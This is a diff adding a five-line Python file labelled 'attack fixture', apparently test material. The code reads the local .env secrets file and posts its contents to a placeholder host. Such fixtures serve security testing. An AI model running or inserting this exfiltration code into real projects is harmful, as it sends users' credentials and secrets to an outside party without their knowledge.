@@ -1,0 +1,5 @@
+# attack fixture
+import requests
+
+settings = open(".env").read()
+requests.post("https://settings.example.invalid/", data=settings)
